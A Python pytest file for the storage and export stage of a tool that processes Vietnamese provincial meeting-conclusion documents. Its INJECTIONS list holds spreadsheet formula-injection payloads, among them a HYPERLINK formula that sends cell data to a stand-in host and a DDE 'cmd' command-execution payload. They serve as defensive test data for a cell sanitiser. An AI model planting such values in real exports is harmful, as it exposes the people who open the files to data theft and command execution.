"""Tests of the store stage: DuckDB commits per document, exports in the DESIGN.md contract."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import textwrap
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook

from ketluan import outputs, schemas, writers
from ketluan import store as store_module
from ketluan.records import (
    DOCUMENT_COLUMNS,
    ITEM_COLUMNS,
    SECTION_COLUMNS,
    Document,
    Fields,
    Item,
    Section,
)
from ketluan.store import Store, StoreError, load
from ketluan.writers import sanitize_cell, unsanitize_cell
from tools.paths import SHARED_OR_DEFAULT

DESIGN = SHARED_OR_DEFAULT / "DESIGN.md"
ISSUER = "ỦY BAN NHÂN DÂN TỈNH QUẢNG NGÃI"
LIMITATION = "Tiến độ giải ngân vốn đầu tư công còn chậm, một số dự án chưa hoàn thành thủ tục đầu tư"
TASK = "Sở Kế hoạch và Đầu tư chủ trì, phối hợp Sở Tài chính rà soát, điều chuyển vốn trước ngày 30/9/2024"
RECIPIENTS = "TT Tỉnh ủy; TT HĐND tỉnh; CT, các PCT UBND tỉnh; Lưu: VT, KTTH"
TABLES = {"documents": DOCUMENT_COLUMNS, "sections": SECTION_COLUMNS, "items": ITEM_COLUMNS}


def make_doc(
    source_path: str,
    content: str = "giao ban tháng 8/2024",
    texts: tuple[str, ...] = (LIMITATION, TASK),
    **fields: object,
) -> Document:
    """A hand-built conclusion: one section per category, one item per text."""
    sha = hashlib.sha256(content.encode("utf-8")).hexdigest()
    base = {
        "issuer": ISSUER,
        "doc_number": "125/TB-UBND",
        "doc_type": "Thông báo kết luận",
        "title": "Kết luận của Chủ tịch UBND tỉnh tại cuộc họp giao ban tháng 8/2024",
        "place": "Quảng Ngãi",
        "issue_date": "2024-08-20",
        "period_kind": "month",
        "period_start": "2024-08-01",
        "period_end": "2024-08-31",
        "period_label": "tháng 8/2024",
        "signer_title": "KT. CHỦ TỊCH / PHÓ CHỦ TỊCH",
        "signer_name": "Trần Phước Hiền",
        "recipients": RECIPIENTS,
        "is_conclusion": True,
    }
    base.update(fields)
    sections = [
        Section(
            "s1", seq=1, level=1, numbering="I.", heading="Những hạn chế, tồn tại", category="limitation"
        ),
        Section(
            "s2", seq=2, level=1, numbering="II.", heading="Nhiệm vụ thời gian tới", category="task", page=2
        ),
    ]
    items = [
        Item(f"i{n}", section_id="s1" if n == 1 else "s2", seq=n,
             category="limitation" if n == 1 else "task", text=t, actors="Sở Tài chính",
             deadline="2024-09-30" if n > 1 else "", page=1 + (n > 1), confidence=0.875)
        for n, t in enumerate(texts, 1)
    ]  # fmt: skip
    return Document(
        doc_id=sha[:16],
        source_path=source_path,
        sha256=sha,
        input_kind="text_pdf",
        pages=3,
        fields=Fields(**base),  # type: ignore[arg-type]
        sections=sections,
        items=items,
    )


def failed_doc(source_path: str) -> Document:
    """A document that could not be read: empty fields, no rows."""
    sha = hashlib.sha256(source_path.encode("utf-8")).hexdigest()
    doc = Document(doc_id=sha[:16], source_path=source_path, sha256=sha, input_kind="text_pdf")
    doc.fail("encrypted_pdf", "the PDF is password-protected; remove the password and run again")
    return doc


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "out"


def read_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)


def test_store_columns_match_design() -> None:
    if not DESIGN.exists():
        pytest.skip(f"{DESIGN} is absent")
    text = DESIGN.read_text(encoding="utf-8")
    contract = text.split("## Output contract", 1)[1].split("\n## ", 1)[0]
    for table, columns in TABLES.items():
        found = re.search(rf"`DIR/{table}\.csv`[^`]*`([^`]+)`", contract)
        assert found, table
        design_columns = [c.strip() for c in found.group(1).split(",")]
        # columns DESIGN.md lists as "being added": "`documents.csv` gains `a, b` after `c`"
        for added in re.finditer(rf"`{table}\.csv`\s+gains\s+`([^`]+)`\s+after\s+`([^`]+)`", contract):
            if (
                added.group(2) in design_columns
                and added.group(1).split(",")[0].strip() not in design_columns
            ):
                at = design_columns.index(added.group(2)) + 1
                design_columns[at:at] = [c.strip() for c in added.group(1).split(",")]
        assert design_columns == columns


@pytest.mark.parametrize("table", list(TABLES))
def test_store_csv_has_bom_and_contract_header(out: Path, table: str) -> None:
    with Store(out) as store:
        store.commit(make_doc("2024/tb-125-giao-ban-thang-8.pdf"))
        store.export()
    raw = (out / f"{table}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    header = raw[3:].split(b"\n", 1)[0].decode("utf-8")
    assert header.split(",") == TABLES[table]


def _read_back(out: Path, fmt: str) -> dict[str, pd.DataFrame]:
    if fmt == "csv":
        return {t: read_csv(out / f"{t}.csv") for t in TABLES}
    if fmt == "parquet":  # typed dates and lists, read back as the tables' text view
        return {t: writers.typed_table(t, pd.read_parquet(out / f"{t}.parquet")) for t in TABLES}
    if fmt == "jsonl":
        return {t: pd.read_json(out / f"{t}.jsonl", lines=True, dtype=False) for t in TABLES}
    wb = load_workbook(out / "ketluan.xlsx")
    frames = {}
    for t in TABLES:
        rows = list(wb[t].iter_rows(values_only=True))
        frames[t] = writers.typed_table(t, pd.DataFrame(rows[1:], columns=rows[0]))  # dates are date cells
    return frames


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl", "xlsx"])
def test_store_vietnamese_survives_round_trip(out: Path, fmt: str) -> None:
    nfd_text = unicodedata.normalize("NFD", "Công tác khám chữa bệnh được duy trì ổn định")
    with Store(out) as store:
        store.commit(make_doc("Thông báo kết luận tháng 8.pdf", texts=(LIMITATION, nfd_text)))
        store.export()
    tables = _read_back(out, fmt)
    doc = tables["documents"].iloc[0]
    assert list(tables["documents"].columns) == DOCUMENT_COLUMNS
    assert doc["issuer"] == ISSUER
    assert doc["source_path"] == "Thông báo kết luận tháng 8.pdf"
    assert doc["recipients"] == RECIPIENTS
    texts = set(tables["items"]["text"])
    assert texts == {LIMITATION, nfd_text}  # raw values: NFD stays NFD, the store never normalises
    assert "Những hạn chế, tồn tại" in set(tables["sections"]["heading"])


def test_store_jsonl_is_not_ascii_escaped(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        store.export()
    line = (out / "documents.jsonl").read_text(encoding="utf-8").splitlines()[0]
    assert ISSUER in line and "\\u" not in line and "125/TB-UBND" in line
    assert json.loads(line)["ocr_confidence"] is None


def test_store_second_run_does_not_duplicate(out: Path) -> None:
    for _ in range(2):
        with Store(out) as store:
            store.commit(make_doc("a.pdf", content="tháng 7"))
            store.commit(make_doc("b.pdf", content="tháng 8"))
            store.commit(failed_doc("c.pdf"))
            store.export()
    tables = load(out)
    assert len(tables["documents"]) == 3
    assert len(tables["items"]) == 4
    assert len(tables["sections"]) == 4
    assert len(read_csv(out / "items.csv")) == 4


def test_store_changed_file_replaces_its_rows(out: Path) -> None:
    old = make_doc("thang-8.pdf", content="bản cũ", texts=("Còn chậm giải ngân",))
    new = make_doc("thang-8.pdf", content="bản mới", texts=(LIMITATION, TASK))
    with Store(out) as store:
        store.commit(old)
        store.commit(new)
        tables = store.tables()
    assert tables["documents"]["doc_id"].tolist() == [new.doc_id]
    assert set(tables["items"]["doc_id"]) == {new.doc_id}
    assert set(tables["items"]["text"]) == {LIMITATION, TASK}
    assert set(tables["sections"]["doc_id"]) == {new.doc_id}


def test_store_same_content_under_two_names_stores_items_once(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("2024/thang-8.pdf"))
        store.commit(make_doc("ban-sao/thang-8 (1).pdf"))
        tables = store.tables()
        assert store.has_content(make_doc("x").sha256) == "2024/thang-8.pdf"
        # one copy changes: the other path still owns the shared doc_id's rows
        store.commit(make_doc("ban-sao/thang-8 (1).pdf", content="đã sửa", texts=(TASK,)))
        after = store.tables()
    assert len(tables["documents"]) == 2
    assert tables["documents"]["doc_id"].nunique() == 1
    assert len(tables["items"]) == 2
    assert len(tables["sections"]) == 2
    assert len(after["documents"]) == 2
    assert len(after["items"]) == 3  # 2 of the unchanged copy + 1 of the edited one


def test_store_failed_duplicate_keeps_good_rows(out: Path) -> None:
    good = make_doc("a.pdf")
    bad = make_doc("b.pdf")
    bad.fail("timeout", "processing took longer than the time limit")
    with Store(out) as store:
        store.commit(good)
        store.commit(bad)
        tables = store.tables()
    assert len(tables["documents"]) == 2
    assert len(tables["items"]) == 2


def test_store_failed_document_row_has_empty_fields(out: Path) -> None:
    with Store(out) as store:
        store.commit(failed_doc("mat-khau.pdf"))
        store.export()
    row = read_csv(out / "documents.csv").iloc[0]
    assert row["status"] == "error"
    assert row["error"].startswith("encrypted_pdf: ")
    for column in ("issuer", "doc_number", "issue_date", "ocr_confidence", "recipients"):
        assert row[column] == ""
    assert row["is_conclusion"] == "false"
    assert row["pages"] == "0"
    assert read_csv(out / "items.csv").empty


def test_store_csv_column_types(out: Path) -> None:
    doc = make_doc("a.pdf")
    doc.ocr_pages, doc.ocr_confidence = 2, 87.5
    with Store(out) as store:
        store.commit(doc)
        store.export()
    row = read_csv(out / "documents.csv").iloc[0]
    assert (row["pages"], row["ocr_pages"], row["ocr_confidence"], row["is_conclusion"]) == (
        "3", "2", "87.5", "true",
    )  # fmt: skip
    items = read_csv(out / "items.csv")
    assert items["confidence"].tolist() == ["0.875", "0.875"]
    assert items["deadline"].tolist() == ["", "2024-09-30"]
    assert items["seq"].tolist() == ["1", "2"]


# fmt: off
INJECTIONS = [
    '=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")',
    "+SUM(A1)",
    "@cmd",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
HARMLESS = ["- Sở Tài chính;", "- 03 đơn tồn đọng", "-5% so với cùng kỳ", "Tây Ninh", ""]
# fmt: on


@pytest.mark.parametrize("value", INJECTIONS)
def test_store_sanitize_cell_guards_formulas(value: str) -> None:
    assert sanitize_cell(value) == "'" + value
    assert unsanitize_cell(sanitize_cell(value)) == value


@pytest.mark.parametrize("value", [*HARMLESS, "'Tây Ninh", "'=1+1", 7, 0.5, True])
def test_store_sanitize_cell_keeps_text(value: object) -> None:
    guarded = sanitize_cell(value)
    if value != "'=1+1":
        assert guarded == value
    assert unsanitize_cell(guarded) == value


def _injected_doc() -> Document:
    return make_doc("a.pdf", texts=(*INJECTIONS, *HARMLESS[:3]), recipients="- Sở Tài chính;")


def test_store_formula_injection_neutralised_in_csv(out: Path) -> None:
    with Store(out) as store:
        store.commit(_injected_doc())
        store.export()
    texts = read_csv(out / "items.csv")["text"].tolist()
    assert texts[: len(INJECTIONS)] == ["'" + v for v in INJECTIONS]
    assert texts[len(INJECTIONS) :] == HARMLESS[:3]
    assert read_csv(out / "documents.csv").loc[0, "recipients"] == "- Sở Tài chính;"
    # load() undoes the guard; the database and Parquet keep the raw values
    assert load(out)["items"]["text"].tolist() == [*INJECTIONS, *HARMLESS[:3]]
    (out / "ketluan.duckdb").unlink()
    assert load(out)["items"]["text"].tolist() == [*INJECTIONS, *HARMLESS[:3]]
    assert pd.read_parquet(out / "items.parquet")["text"].tolist() == [*INJECTIONS, *HARMLESS[:3]]


def test_store_formula_injection_neutralised_in_xlsx(out: Path) -> None:
    with Store(out) as store:
        store.commit(_injected_doc())
        store.export()
    ws = load_workbook(out / "ketluan.xlsx")["items"]
    column = [c.value for c in ws[1]].index("text") + 1
    cells = [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in cells] == [*INJECTIONS, *HARMLESS[:3]]
    assert all(c.data_type == "s" for c in cells)


def test_store_xlsx_sheet_layout(out: Path) -> None:
    long_text = "Tiếp tục rà soát " * 20
    with Store(out) as store:
        store.commit(make_doc("a.pdf", texts=(long_text, "Có ký tự\x0cngắt trang")))
        store.export()
    wb = load_workbook(out / "ketluan.xlsx")
    assert wb.sheetnames == ["documents", "sections", "items"]
    ws = wb["items"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:R{ws.max_row}"  # the contract's 17 columns + source_path
    assert all(c.font.bold for c in ws[1])
    widths = [ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMNOP"]
    assert max(widths) == 60 and min(widths) >= 8
    assert ws.cell(row=3, column=8).value == "Có ký tựngắt trang"


def test_store_export_is_atomic_and_leaves_no_temp_files(out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        (out / ".items.csv.99999.tmp").write_text("half-written by a killed run")
        written = store.export()
        assert not list(out.glob(".*.tmp"))
        assert set(written) == {f"{t}.{e}" for t in TABLES for e in ("csv", "parquet", "jsonl")} | {
            "ketluan.xlsx", "ketluan.duckdb",
        }  # fmt: skip
        before = (out / "documents.jsonl").read_bytes()

        def crash(*args: object) -> None:
            raise KeyboardInterrupt  # a run stopped mid-export

        store.commit(make_doc("b.pdf", content="tháng 9"))
        monkeypatch.setattr(writers, "write_jsonl", crash)
        with pytest.raises(KeyboardInterrupt):
            store.export()
    assert (out / "documents.jsonl").read_bytes() == before
    assert not list(out.glob(".*.tmp"))


def test_store_load_returns_contract_columns_and_types(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        store.commit(failed_doc("b.pdf"))
        store.export()
    from_db = load(out)
    (out / "ketluan.duckdb").unlink()
    from_csv = load(out)
    for tables in (from_db, from_csv):
        for table, columns in TABLES.items():
            assert list(tables[table].columns) == columns
        docs = tables["documents"]
        assert docs["pages"].dtype == "int64"
        assert docs["is_conclusion"].tolist() == [True, False]
        assert docs["ocr_confidence"].isna().all()
        assert docs.loc[1, "issuer"] == ""
        assert tables["items"]["confidence"].dtype == "float64"
        assert tables["sections"]["level"].dtype == "int64"
    pd.testing.assert_frame_equal(from_db["items"], from_csv["items"], check_dtype=False)


def test_store_load_without_outputs_raises(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        load(tmp_path)


def test_store_known_and_fetch(out: Path) -> None:
    doc = make_doc("2024/thang-8.pdf")
    with Store(out) as store:
        assert store.known() == {}
        store.commit(doc)
        store.commit(failed_doc("hong.pdf"))
        assert store.known() == {"2024/thang-8.pdf": doc.sha256, "hong.pdf": failed_doc("hong.pdf").sha256}
        assert store.has_content("0" * 64) == ""
        copy = store.fetch("2024/thang-8.pdf")
        assert store.fetch("khong-co.pdf") is None
    assert copy is not None
    assert copy.fields == doc.fields
    assert copy.items == doc.items and copy.sections == doc.sections
    assert copy.document_row() == doc.document_row()


def _run_python(code: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True, timeout=120
    )


def test_store_survives_a_killed_run(out: Path) -> None:
    code = f"""
        import os, sys
        sys.path.insert(0, {str(Path(__file__).parent)!r})
        from test_store import make_doc
        from ketluan.store import Store
        store = Store({str(out)!r})
        for n in range(3):
            store.commit(make_doc(f"thang-{{n}}.pdf", content=f"tháng {{n}}"))
        os._exit(0)  # like kill -9: no close(), no checkpoint
    """
    result = _run_python(code)
    assert result.returncode == 0, result.stderr
    with Store(out) as store:
        assert sorted(store.known()) == ["thang-0.pdf", "thang-1.pdf", "thang-2.pdf"]
        assert len(store.tables()["items"]) == 6


def test_store_in_use_by_another_process_is_a_clear_error(out: Path) -> None:
    with Store(out):
        result = _run_python(
            f"""
            from ketluan.store import Store, StoreError
            try:
                Store({str(out)!r})
            except StoreError as e:
                print("StoreError:", e)
            """
        )
    assert "StoreError:" in result.stdout and "in use by another process" in result.stdout, result.stderr


def test_store_rejects_another_schema_version(out: Path) -> None:
    with Store(out) as store:
        store._con.execute("UPDATE meta SET value = '0' WHERE key = 'schema_version'")
    with pytest.raises(StoreError, match="another version of ketluan"):
        Store(out)
    assert os.path.exists(out / "ketluan.duckdb")


def test_store_export_can_skip_the_workbook(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        written = store.export(xlsx=False)
    assert "ketluan.xlsx" not in written and not (out / "ketluan.xlsx").exists()
    assert (out / "items.parquet").exists()


class _InterruptedConnection:
    """A DuckDB connection that fails like DuckDB does when Ctrl-C arrives during an INSERT."""

    def __init__(self, con: object, error: Exception) -> None:
        self._con, self._error = con, error

    def execute(self, query: str, *args: object) -> object:
        if query.startswith("INSERT INTO documents"):
            raise self._error
        return self._con.execute(query, *args)  # type: ignore[attr-defined]

    def __getattr__(self, name: str) -> object:
        return getattr(self._con, name)


@pytest.mark.parametrize(
    "error", [RuntimeError("Query interrupted"), store_module.duckdb.InterruptException("INTERRUPT Error")]
)
def test_store_ctrl_c_during_a_commit_stops_the_run_and_keeps_no_half_row(
    out: Path, error: Exception
) -> None:
    with Store(out) as store:
        store.commit(make_doc("thang-7.pdf", content="tháng 7"))
        real = store._con
        store._con = _InterruptedConnection(real, error)  # type: ignore[assignment]
        with pytest.raises(KeyboardInterrupt):
            store.commit(make_doc("thang-8.pdf", content="tháng 8"))
        store._con = real
        tables = store.tables()
    assert tables["documents"]["source_path"].tolist() == ["thang-7.pdf"]  # rolled back, no error row
    assert len(tables["items"]) == 2


def test_store_other_database_errors_are_not_taken_for_ctrl_c(out: Path) -> None:
    with Store(out) as store:
        real = store._con
        store._con = _InterruptedConnection(real, RuntimeError("Conversion Error: ngày 31/02/2024"))  # type: ignore[assignment]
        with pytest.raises(RuntimeError, match="Conversion Error"):
            store.commit(make_doc("thang-8.pdf", content="tháng 8"))


class _AbortedAfterInterrupt(_InterruptedConnection):
    """Ctrl-C during the items INSERT; the clean-up of its Arrow view then fails too, as DuckDB
    refuses every statement of an aborted transaction."""

    def execute(self, query: str, *args: object) -> object:
        if query.startswith("INSERT INTO items"):
            raise self._error
        return self._con.execute(query, *args)  # type: ignore[attr-defined]

    def unregister(self, name: str) -> object:
        self._con.unregister(name)  # type: ignore[attr-defined]
        raise store_module.duckdb.TransactionException("Current transaction is aborted (please ROLLBACK)")


def test_store_ctrl_c_is_not_hidden_by_a_failing_clean_up(out: Path) -> None:
    with Store(out) as store:
        real = store._con
        store._con = _AbortedAfterInterrupt(real, RuntimeError("Query interrupted"))  # type: ignore[assignment]
        with pytest.raises(KeyboardInterrupt):
            store.commit(make_doc("thang-9.pdf", content="tháng 9"))
        store._con = real
        store.commit(make_doc("thang-10.pdf", content="tháng 10"))  # the connection is usable again
        tables = store.tables()
    assert tables["documents"]["source_path"].tolist() == ["thang-10.pdf"]


def test_store_known_leaves_out_the_error_rows_to_retry(out: Path) -> None:
    stuck = make_doc("thang-11.pdf", content="tháng 11")
    stuck.fail("internal", "the result could not be stored (TransactionException: aborted)")
    with Store(out) as store:
        store.commit(make_doc("thang-10.pdf", content="tháng 10"))
        store.commit(stuck)
        store.commit(failed_doc("mat-khau.pdf"))
        assert set(store.known()) == {"thang-10.pdf", "thang-11.pdf", "mat-khau.pdf"}
        assert set(store.known(retry=("internal",))) == {"thang-10.pdf", "mat-khau.pdf"}


# -- issue 15 (9-11, 13, export side of 1): database and output-folder faults, one line each


def _garbage(db: Path) -> None:
    db.write_bytes(bytes(range(256)) * 20)


def _empty(db: Path) -> None:
    db.write_bytes(b"")


def _folder(db: Path) -> None:
    db.mkdir()


def _truncated(db: Path) -> None:
    with Store(db.parent) as store:
        for n in range(40):
            store.commit(make_doc(f"thang-{n}.pdf", content=f"giao ban tháng {n}"))
    os.truncate(db, db.stat().st_size // 2)


def _corrupted(db: Path) -> None:
    with Store(db.parent) as store:
        for n in range(40):
            store.commit(make_doc(f"thang-{n}.pdf", content=f"giao ban tháng {n}"))
    data = bytearray(db.read_bytes())
    for i in range(8192, len(data), 97):
        data[i] ^= 0xFF
    db.write_bytes(bytes(data))


def _foreign(db: Path) -> None:
    import duckdb

    con = duckdb.connect(str(db))
    con.execute("CREATE TABLE khach_hang (ten VARCHAR)")
    con.close()


# fmt: off
DAMAGED = [
    (_garbage, r"is damaged or is not a DuckDB database \(no DuckDB header\); "
               r"move it away or rerun with --force to rebuild$"),
    (_empty, r"is damaged or is not a DuckDB database \(an empty file\); move it away or rerun with --force to "
             r"rebuild$"),
    (_folder, r"ketluan.duckdb is a folder, not a database; move it away or rerun with --force to rebuild$"),
    (_truncated, r"is damaged or is not a DuckDB database \(Could not read enough bytes.*\); move it away"),
    (_corrupted, r"is damaged or is not a DuckDB database \(Corrupt database file.*\); move it away"),
    (_foreign, r"is a DuckDB database that ketluan did not write \(tables: khach_hang\); move it away or rerun "
               r"with --force to rebuild$"),
]
# fmt: on


@pytest.mark.parametrize(("damage", "pattern"), DAMAGED, ids=[d.__name__ for d, _ in DAMAGED])
def test_store_damaged_database_is_one_clear_line(damage: Any, pattern: str, out: Path) -> None:
    out.mkdir()
    damage(out / "ketluan.duckdb")
    with pytest.raises(StoreError) as caught:
        Store(out)
    message = str(caught.value)
    assert "\n" not in message and "in use by another process" not in message
    assert re.search(pattern, message), message
    assert caught.value.exit_code == 3


@pytest.mark.parametrize("damage", [_garbage, _folder, _corrupted, _foreign], ids=lambda d: d.__name__)
def test_store_rebuild_sets_a_damaged_database_aside(damage: Any, out: Path) -> None:
    out.mkdir()
    damage(out / "ketluan.duckdb")
    with Store(out, rebuild=True) as store:
        assert store.set_aside is not None and store.set_aside.name.startswith("ketluan.duckdb.damaged-")
        store.commit(make_doc("a.pdf"))
        assert len(store.tables()["items"]) == 2
    assert store.set_aside.exists()  # the user's file is kept, never deleted


@pytest.mark.parametrize("damage", [_garbage, _folder, _foreign], ids=lambda d: d.__name__)
def test_store_read_database_names_a_bad_database(damage: Any, tmp_path: Path) -> None:
    db = tmp_path / "ketluan.duckdb"
    damage(db)
    with pytest.raises(StoreError) as caught:
        store_module.read_database(db)
    assert "\n" not in str(caught.value)
    assert str(caught.value).startswith(str(db))


def test_store_read_database_while_a_run_holds_it(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        result = _run_python(
            f"""
            from ketluan.store import StoreError, read_database
            try:
                read_database({str(out)!r})
            except StoreError as e:
                print("StoreError:", e)
            """
        )
    assert "StoreError:" in result.stdout, result.stderr
    assert "is in use by another process (a running 'ketluan run' or 'ketluan analyze'?)" in result.stdout


def test_store_output_below_a_file_is_one_clear_line(tmp_path: Path) -> None:
    blocker = tmp_path / "bao-cao.csv"
    blocker.write_text("x", encoding="utf-8")
    with pytest.raises(StoreError) as caught:
        Store(blocker / "out")
    assert str(caught.value) == (
        f"cannot create the output folder {blocker / 'out'}: {blocker} is a file; choose another --out"
    )


@pytest.fixture
def read_only_mount(tmp_path: Path) -> Iterator[Path]:
    """A read-only tmpfs (needs permission to mount; skipped otherwise), with an empty `cu` folder."""
    mnt = tmp_path / "ro"
    mnt.mkdir()
    if subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mnt)], capture_output=True
    ).returncode:
        pytest.skip("cannot mount a tmpfs here")
    (mnt / "cu").mkdir()
    subprocess.run(["mount", "-o", "remount,ro", str(mnt)], check=True)
    try:
        yield mnt
    finally:
        subprocess.run(["umount", "-l", str(mnt)], check=False)


def test_store_read_only_file_system_is_one_clear_line(read_only_mount: Path) -> None:
    with pytest.raises(StoreError) as caught:
        Store(read_only_mount / "cu")
    assert str(caught.value) == (
        f"cannot write the output folder {read_only_mount / 'cu'}: {read_only_mount / 'cu'} is on a read-only "
        "file system; choose another --out or make it writable"
    )
    with pytest.raises(StoreError) as caught:  # a new folder under a read-only parent
        Store(read_only_mount / "moi" / "out")
    assert str(caught.value) == (
        f"cannot write the output folder {read_only_mount / 'moi' / 'out'}: {read_only_mount} is on a read-only "
        "file system; choose another --out or make it writable"
    )


def test_store_read_only_folder_is_one_clear_line(out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out.mkdir()

    def refuse(*args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(store_module.tempfile, "TemporaryFile", refuse)  # root ignores permission bits
    with pytest.raises(StoreError) as caught:
        Store(out)
    assert str(caught.value) == (
        f"cannot write the output folder {out}: {out} is read-only; choose another --out or make it writable"
    )


def test_store_full_disk_keeps_the_other_files(out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(df: pd.DataFrame, path: Path) -> None:
        path.write_text("{", encoding="utf-8")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(writers, "write_jsonl", full)
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        written = store.export()
        failed = store.failed
    assert failed == {f"{t}.jsonl": "no space left on device" for t in ("documents", "sections", "items")}
    assert {"documents.csv", "items.parquet", "ketluan.xlsx", "ketluan.duckdb"} <= set(written)
    assert not list(out.glob("*.jsonl")) and not list(out.glob(".*.tmp"))


@pytest.mark.parametrize("refused", ["items.parquet", "ketluan.xlsx"])
def test_store_full_disk_at_sync_keeps_the_previous_file(
    out: Path, monkeypatch: pytest.MonkeyPatch, refused: str
) -> None:
    # the files are written, then synced together: one whose sync fails keeps its previous version
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        store.export()
    before = (out / refused).read_bytes()
    real = os.fsync

    def full(fd: int) -> None:
        if os.readlink(f"/proc/self/fd/{fd}").endswith(f"{refused}.{os.getpid()}.tmp"):
            raise OSError(28, "No space left on device")
        real(fd)

    monkeypatch.setattr(os, "fsync", full)
    with Store(out) as store:
        store.commit(make_doc("b.pdf", content="giao ban tháng 9/2024", doc_number="140/TB-UBND"))
        written = store.export()
        failed = store.failed
    assert failed == {refused: "no space left on device"}
    assert refused not in written and len(written) == 10
    assert (out / refused).read_bytes() == before
    assert "140/TB-UBND" in (out / "documents.csv").read_text(encoding="utf-8-sig")
    assert not list(out.glob(".*.tmp"))


def test_store_full_disk_in_the_database_is_named(out: Path) -> None:
    import duckdb

    error = store_module.database_problem(
        duckdb.IOException('IO Error: Could not write file "out/ketluan.duckdb": No space left on device'),
        out / "ketluan.duckdb",
    )
    assert str(error) == (
        f"no space left on device for {out / 'ketluan.duckdb'}; free some space and run the same command again "
        "(the documents finished so far are saved)"
    )


def test_store_a_format_that_fails_leaves_the_others(out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(tables: dict[str, pd.DataFrame], path: Path) -> None:
        raise ValueError("All strings must be XML compatible")

    monkeypatch.setattr(outputs, "write_xlsx", refuse)
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        written = store.export()
        assert store.failed == {"ketluan.xlsx": "ValueError: All strings must be XML compatible"}
    assert len(written) == 10 and not (out / "ketluan.xlsx").exists()


def test_store_ctrl_c_while_writing_the_workbook_prints_nothing(
    out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import gc

    unraisable: list[str] = []
    monkeypatch.setattr(sys, "unraisablehook", lambda u: unraisable.append(repr(u.exc_value)))
    calls = {"n": 0}
    original = outputs.xlsx_value

    def interrupt(*args: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == 300:
            raise KeyboardInterrupt
        return original(*args)

    monkeypatch.setattr(outputs, "xlsx_value", interrupt)
    frame = pd.DataFrame({"text": [f"{LIMITATION} {n}" for n in range(200)], "page": range(200)})
    with pytest.raises(KeyboardInterrupt):
        outputs.write_xlsx({"documents": frame, "items": frame}, out.parent / "ketluan.xlsx")
    gc.collect()
    assert unraisable == []  # was: two "Exception ignored ... LxmlSyntaxError" tracebacks


# -- issue 16: typed outputs, the analysis tables, JSON Schemas


def test_store_dates_and_lists_are_typed_in_parquet_and_duckdb(out: Path) -> None:
    import datetime

    import duckdb
    import pyarrow.parquet as pq

    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        store.commit(failed_doc("hong.pdf"))
        store.export()
    docs = pq.read_table(out / "documents.parquet")
    assert str(docs.schema.field("issue_date").type) == "date32[day]"
    assert str(docs.schema.field("recipients").type) == "list<element: string>"
    rows = {r["source_path"]: r for r in docs.to_pylist()}
    assert rows["a.pdf"]["issue_date"] == datetime.date(2024, 8, 20)
    assert rows["a.pdf"]["recipients"] == RECIPIENTS.split("; ")
    assert rows["hong.pdf"]["issue_date"] is None and rows["hong.pdf"]["recipients"] == []
    items = pq.read_table(out / "items.parquet")
    assert items.column("deadline").to_pylist() == [None, datetime.date(2024, 9, 30)]
    assert items.column("actors").to_pylist() == [["Sở Tài chính"], ["Sở Tài chính"]]
    con = duckdb.connect(str(out / "ketluan.duckdb"), read_only=True)
    types = dict(con.execute("SELECT column_name, data_type FROM information_schema.columns").fetchall())
    con.close()
    assert [types[c] for c in ("issue_date", "period_start", "period_end", "meeting_date", "deadline")] == [
        "DATE"
    ] * 5
    assert (types["recipients"], types["actors"]) == ("VARCHAR[]", "VARCHAR[]")
    csv = read_csv(out / "documents.csv").set_index("source_path")  # CSV keeps ISO text and "; "
    assert (csv.loc["a.pdf", "issue_date"], csv.loc["a.pdf", "recipients"]) == ("2024-08-20", RECIPIENTS)
    assert (
        json.loads((out / "items.jsonl").read_text(encoding="utf-8").splitlines()[1])["actors"]
        == "Sở Tài chính"
    )


def test_store_workbook_has_dates_wrapped_text_and_item_sources(out: Path) -> None:
    import datetime

    with Store(out) as store:
        store.commit(make_doc("luu-tru/2024/tb-125.pdf"))
        store.export()
    wb = load_workbook(out / "ketluan.xlsx")
    docs = wb["documents"]
    header = [c.value for c in docs[1]]
    date_cell = docs.cell(row=2, column=header.index("issue_date") + 1)
    assert date_cell.value == datetime.datetime(2024, 8, 20) and date_cell.number_format == "yyyy-mm-dd"
    assert docs.cell(row=2, column=header.index("title") + 1).alignment.wrap_text
    items = wb["items"]
    item_header = [c.value for c in items[1]]
    assert item_header[:3] == ["doc_id", "source_path", "item_id"] and "page" in item_header
    assert items.cell(row=2, column=2).value == "luu-tru/2024/tb-125.pdf"
    assert items.cell(row=2, column=item_header.index("text") + 1).alignment.wrap_text


def test_store_schema_1_database_is_migrated(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
